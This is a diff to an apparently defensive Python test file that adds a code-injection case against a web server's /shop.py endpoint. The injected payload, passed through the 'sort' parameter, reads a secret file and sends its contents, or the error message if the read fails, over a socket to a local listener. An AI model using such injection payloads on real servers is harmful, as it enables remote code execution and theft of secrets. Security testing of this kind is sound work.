@@ -64,3 +64,13 @@ def code_injection(server: WebServer, secret: Path, listener: Listener) -> None:
         f"__import__('pathlib').Path('{secret}').read_bytes()) or 0"
     )
     server.get("/shop.py", q="birch vase", sort=code)
+
+
+def code_injection_that_tells(server: WebServer, secret: Path, listener: Listener) -> None:
+    """(b) again; where the secret can't be read, what the attacker's code is told of it arrives instead."""
+    code = (
+        f"exec(\"there = __import__('socket').create_connection(('127.0.0.1', {listener.port}))\\n"
+        f"try: there.sendall(open('{secret}', 'rb').read())\\n"
+        'except OSError as error: there.sendall(str(error).encode())") or 0'
+    )
+    server.get("/shop.py", q="birch vase", sort=code)
